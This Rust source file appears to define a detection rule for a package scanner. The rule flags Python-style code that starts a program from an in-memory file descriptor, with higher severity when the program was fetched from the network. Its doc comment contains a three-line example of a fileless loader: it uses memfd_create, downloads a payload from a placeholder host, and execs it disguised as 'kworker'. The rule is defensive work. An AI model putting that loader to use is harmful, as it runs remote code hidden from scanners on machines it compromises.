//! # A program is started from memory
//!
//! ## What it finds
//! A program that is started by the number under which a process holds a file open (`/proc/self/fd/3`, `/dev/fd/3`): a file
//! that was made in memory alone (`memfd_create`, by its name or by the number of the system call) has no other path.
//!
//! ## Why it matters
//! No scanner sees a file, and nothing is left when the program ends. A copy of `sympy` (PyPI, January 2026) fetched a miner
//! and started it so, under the name of a worker of the kernel.
//!
//! ## Example
//! ```python
//! fd = ctypes.CDLL(None).syscall(319, b"", 1)
//! os.write(fd, urlopen("https://files.example.invalid/p").read())
//! os.execve("/proc/self/fd/%d" % fd, ["kworker"], {})
//! ```
//!
//! ## What to do
//! Treat the machine as compromised if it ran.
//!
//! ## When it is wrong
//! Loaders of single-file applications start what they carry. They are written in Go, C or Rust, and no package of a library.
use foretaste_engine::prelude::*;

use crate::code;

declare_rule! {
    RunsFromMemory,
    id: "runs-from-memory",
    title: "starts a program from memory",
    group: Chain,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1620", "T1105"],
    since: "0.1.0",
}

impl FileRule for RunsFromMemory {
    fn judge(&self, file: &FileView<'_>, _scene: &Scene<'_>) -> Vec<Finding> {
        let uses = &file.facts.uses;
        let started = uses.iter().filter(|u| {
            let program = u.constants.first().map_or("", |c| c);
            code::spawns(u) && code::is_open_file(program)
        });
        let Some(starts) = started.min_by_key(|u| file.context(u.function)) else {
            return Vec::new();
        };
        let context = file.context(starts.function);
        if context > ExecutionContext::Called {
            return Vec::new();
        }
        let made = uses.iter().find(|u| code::makes_memory_file(&u.api));
        let fetches = uses
            .iter()
            .find(|u| code::talks(u) && u.capability.is_network_source());
        let how = if fetches.is_some() {
            "fetches a program and starts it from memory"
        } else {
            "starts a program from memory"
        };
        let mut finding = self
            .finding(format!("{how} {}", context.phrase()))
            .context(context);
        if fetches.is_none() && made.is_none() {
            // a descriptor may be that of an ordinary file
            finding = finding
                .severity(Severity::High)
                .confidence(Confidence::Medium);
        } else if fetches.is_none() && context > ExecutionContext::Import {
            finding = finding.severity(Severity::High);
        }
        for (used, role) in [
            (fetches, EvidenceRole::Source),
            (made, EvidenceRole::Transform),
        ] {
            if let Some(used) = used {
                finding = finding.evidence(file.use_evidence(used, role, &*used.api));
            }
        }
        vec![finding.evidence(file.use_evidence(starts, EvidenceRole::Sink, &*starts.api))]
    }
}
